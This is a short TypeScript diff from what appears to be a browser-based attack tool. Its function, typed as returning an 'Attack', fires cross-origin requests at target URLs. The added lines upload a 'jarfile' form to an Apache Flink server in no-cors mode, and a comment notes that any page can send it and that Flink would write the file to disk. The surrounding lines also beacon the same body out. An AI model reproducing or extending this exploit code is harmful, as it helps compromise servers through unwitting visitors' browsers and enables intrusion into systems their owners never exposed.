@@ -219,6 +219,10 @@ async function askForEverything(order: Order): Promise<Attack> {
         );
     }
     await Promise.all(jobs);
+    // A form with a file, as any page may send it anywhere: Flink's own server would write it to the disk.
+    const form = new FormData();
+    form.append("jarfile", new Blob([bodies[0]!]), bodies[0]!.slice(0, 100));
+    await one(url, path, { method: "POST", mode: at === undefined ? "no-cors" : "same-origin", body: form });
     if (at !== undefined) continue;
     navigator.sendBeacon(url, bodies[0]);
     await Promise.all([
